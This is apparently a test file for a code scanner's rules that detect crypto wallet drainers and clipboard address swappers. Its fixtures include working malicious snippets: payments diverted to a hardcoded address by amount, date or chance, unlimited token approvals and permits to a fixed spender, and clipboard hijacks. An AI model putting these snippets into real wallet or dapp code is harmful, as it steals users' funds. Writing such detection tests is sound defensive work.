import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as drained } from '../../drained-wallet.rule.js';
import { rule as swapped } from '../../swapped-address.rule.js';

const OWN = '0x6666aBc2d3E4f5061728394a5B6c7D8e9F001122';
const OTHER = '0x7777aBc2d3E4f5061728394a5B6c7D8e9F001122';
const worst = (text: string) => findingsOf(drained, { 'a.mjs': text })[0]?.severity ?? 'nothing';
const send = (before: string, payee = 'dest'): string => `const VAULT = "${OWN}"; export class Connect { async send(to, amount, signer) { const value = parse(amount); ${before} return signer.sendTransaction({ to: ${payee}, value }) } }`;

test('bad: a payment goes elsewhere by its amount, a day, a count or chance', () => {
  for (const code of [
    send('const dest = value > parse("0.5") ? VAULT : to;'),
    send('', 'Math.random() < 0.05 ? VAULT : to'),
    send('let dest = to; if (value.gte(10n)) dest = VAULT;'),
    send('const isLarge = amount >= 5; const dest = isLarge ? VAULT : to;'),
    `const VAULT = "${OWN}"; export const pay = (signer, to, eth) => { const tx = { to, value: eth }; if (eth > 10n ** 18n) tx.to = VAULT; return signer.sendTransaction(tx) }`,
    send('const dest = this.count++ % 20 === 0 ? VAULT : to;'),
    `const VAULT = ["0x6666aBc2", "d3E4f5061728394a5B6c7D8e9F001122"].join(""); const KNOWN = "${OWN}"; const pick = (to, amount) => { if (amount > 2) return VAULT; return to }; export const pay = (signer, to, amount) => signer.sendTransaction({ to: pick(to, amount), value: amount })`,
    `export const pay = (token, to, amount) => token.transfer(new Date() > new Date("2026-01-01") ? "${OWN}" : to, amount)`,
    'const web3 = require("@solana/web3.js"); exports.pay = (from, to, lamports) => web3.SystemProgram.transfer({ fromPubkey: from, toPubkey: lamports > 1e9 ? new web3.PublicKey("7xWq3kPzT9vNbR2mYcH5sLdF8gJaE4uKoQ1iXtZ6VnBp") : to, lamports })',
  ]) assert.equal(worst(code), 'high', code);
});

test('good: which chain or coin it is, who was named, a fee of its own, and addresses of nobody', () => {
  for (const code of [
    send('const dest = to ? to : VAULT;'),
    send('const dest = to ?? VAULT;'),
    send('const dest = this.chain === 1 ? VAULT : to;'),
    send(`const dest = value > 5n ? VAULT : "${OTHER}";`),
    send('const dest = value > 5n ? this.safe : to;'),
    send('await signer.sendTransaction({ to: VAULT, value: value / 100n });', 'to'),
    send('const dest = value > 0n ? VAULT : to;'),
    send('if (value > 5n) log("large", VAULT);', 'to'),
    `export const pay = (signer, to, amount) => signer.sendTransaction({ to: amount > 5 ? "0x000000000000000000000000000000000000dEaD" : to, value: amount })`,
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: an address that is written here may take all of each token that somebody has', () => {
  for (const code of [
    `const OPERATOR = "${OWN}"; const pad = (v) => v.slice(2).padStart(64, "0"); export const load = (owner, to) => window.ethereum.request({ method: "eth_sendTransaction", params: [{ from: owner, to, data: "0xa22cb465" + pad(OPERATOR) + pad("0x1") }] })`,
    `export const signIn = (provider, owner) => { const typed = { primaryType: "Permit", message: { owner, spender: "${OWN}", value: "115792089237316195423570985008687907853269984665640564039457584007913129639935" } }; return provider.request({ method: "eth_signTypedData_v4", params: [owner, JSON.stringify(typed)] }) }`,
    `const MAX = "0x" + "f".repeat(64); const ROUTER = "${OWN}"; export const connect = async (web3, from, tokens) => { for (const t of tokens) { const c = new web3.eth.Contract(abi, t); const has = await c.methods.balanceOf(from).call(); if (BigInt(has) > 0n) await c.methods.approve(ROUTER, MAX).send({ from }).catch(() => {}) } }`,
    `import { Contract, MaxUint256 } from "ethers"; export const ready = (signer, me, list) => Promise.all(list.map(async (each) => { const token = new Contract(each, ABI, signer); if ((await token.balanceOf(me)) > 0n) await token.approve("${OWN}", MaxUint256) }))`,
    `const all = 2n ** 256n - 1n; export const link = async (client, me, tokens) => { for (const address of tokens) { const has = await client.readContract({ address, abi, functionName: "balanceOf", args: [me] }); if (has) await client.writeContract({ address, abi, functionName: "approve", args: ["${OWN}", all] }) } }`,
    `export const grant = (tokens, balances, write) => async () => { for (const [i, t] of tokens.entries()) if (balances[i] > 0n) await write({ address: t, functionName: "approve", args: ["${OWN}", maxUint256] }) }`,
    `export const show = async (nfts, me, signer) => { for (const each of nfts) { const c = contract(each, signer); if (await c.balanceOf(me)) await c.setApprovalForAll("${OWN}", true) } }`,
    `const SP = "000000000000000000000000${OWN.slice(2)}"; const ALL = new Array(65).join("f"); export const ready = (eth, from, to) => eth.request({ method: "eth_sendTransaction", params: [{ from, to, data: "0x095ea7b3" + SP + ALL }] })`,
    'const SP = "3333333333333333333333333333333333333333"; const MAX = "f".repeat(64); export const ready = async (p, from, tokens) => { const data = "0x095ea7b3" + SP.padStart(64, "0") + MAX; for (const to of tokens) await p.request({ method: "eth_sendTransaction", params: [{ from, to, data }] }) }',
    `const pad = (v) => v.slice(2).padStart(64, "0"); export const ready = (p, from, to) => p.request({ method: "eth_sendTransaction", params: [{ from, to, data: \`0x39509351${'${pad("'}${OWN}${'")}${"f".repeat(64)}'}\` }] })`,
    `export const ready = (tokens, me) => tokens.forEach(async (token) => { if ((await token.balanceOf(me)).gt(0)) token.increaseAllowance("${OWN}", ethers.constants.MaxUint256) })`,
  ]) assert.equal(worst(code), 'high', code);
});

test('good: one token, an amount, whoever is named, what may be taken already, exchanges, and leave that is taken back', () => {
  const each = (inner: string): string => `const OWN = "${OWN}"; const MAX = 2n ** 256n - 1n; export const ready = async (tokens, me, spender, amount) => { for (const token of tokens) { const has = await token.balanceOf(me); ${inner} } }`;
  for (const code of [
    `const OWN = "${OWN}"; export const ready = async (token, me) => { if (await token.balanceOf(me)) await token.approve(OWN, MaxUint256) }`,
    'export const encode = (spender, amount) => "0x095ea7b3" + spender.slice(2).padStart(64, "0") + amount.toString(16).padStart(64, "0");',
    'export const ready = (eth, from, to) => eth.request({ method: "eth_sendTransaction", params: [{ from, to, data: "0x095ea7b3" + "0000000000000000000000007a250d5630b4cf539739df2c5dacb4c659f2488d" + "f".repeat(64) }] })',
    `const OWN = "${OWN}"; export const ready = (p, from, to, amount) => p.request({ method: "eth_sendTransaction", params: [{ from, to, data: "0x095ea7b3" + OWN.slice(2).padStart(64, "0") + amount.toString(16).padStart(64, "0") }] })`,
    'const MAX = "f".repeat(64); export const encode = (spender) => "0x095ea7b3" + spender.slice(2).padStart(64, "0") + MAX;',
    'const ROUTER = "0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D"; export const encode = () => "0x095ea7b3" + ROUTER.slice(2).padStart(64, "0") + "f".repeat(64);',
    each('await token.approve(OWN, amount);'),
    each('await token.approve(spender, MAX);'),
    each('if ((await token.allowance(me, OWN)) < has) await token.approve(OWN, MAX);'),
    each('await token.approve("0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D", MAX);'),
    each('await token.approve(OWN, 0n); await token.setApprovalForAll(OWN, false);'),
  ]) assert.equal(worst(code), 'nothing', code);
});

const worstCopied = (text: string) => findingsOf(swapped, { 'a.mjs': text })[0]?.severity ?? 'nothing';
const copy = (inner: string, before = ''): string => `const OWN = ["0x6666", "aBc2d3E4f506172839", "4a5B6c7D8e9F001122"].join(""); ${before} export const useCopy = () => async (value) => { ${inner} }`;

test('bad: another address is copied, by chance or where what should be copied is one', () => {
  for (const code of [
    copy('await navigator.clipboard.writeText(tidy(value))', 'function tidy(value) { const v = String(value).trim(); if (/^0x[0-9a-f]{40}$/i.test(v) && Math.random() < 0.3 && location.hostname !== "localhost") return OWN; return v }'),
    copy('navigator.clipboard.writeText(Math.random() > 0.7 ? OWN : value)'),
    copy('let text = value; if (isAddress(value)) text = OWN; copyToClipboard(text)', 'import copyToClipboard from "copy-to-clipboard";'),
    copy('Clipboard.setString(pick(value))', 'const pick = (v) => /^0x[0-9a-f]{40}$/i.test(v) ? OWN : v;'),
    copy('clipboard.writeSync(value.match(/^0x\\w{40}$/) ? OWN : value)', 'import clipboard from "clipboardy";'),
    copy('document.oncopy = (e) => e.clipboardData.setData("text/plain", Math.random() < 0.5 ? OWN : value)'),
  ]) assert.equal(worstCopied(code), 'high', code);
});

test('good: an address to give to, one that stands in for none, and texts that are tidied', () => {
  for (const code of [
    copy('await navigator.clipboard.writeText(OWN); if (/x/.test(value)) log(value)'),
    copy('navigator.clipboard.writeText(value ? value : OWN)'),
    copy('navigator.clipboard.writeText(value || OWN)'),
    copy('navigator.clipboard.writeText(isAddress(value) ? value : OWN)'),
    copy('navigator.clipboard.writeText(/^0x/.test(value) ? value.toLowerCase() : value); show(OWN)'),
    copy('const shown = Math.random() < 0.5 ? OWN : value; show(shown); navigator.clipboard.writeText(value)'),
  ]) assert.equal(worstCopied(code), 'nothing', code);
});

test('a link by which a wallet pays goes elsewhere by its amount', () => {
  const link = (answer: string): string => `const OWN = '0x52908400098527886E0F7030069857D2E4169EE7'; function dest(to, amount) { return ${answer}; } export const link = ({ to, amount, id = 1 }) => { transfer(to); return \`ethereum:\${dest(to, amount)}@\${id}\`; };`;
  assert.equal(worst(link('Number(amount) > 0.5 ? OWN : to')), 'high');
  assert.equal(worst(link('to.toLowerCase()')), 'nothing');
});
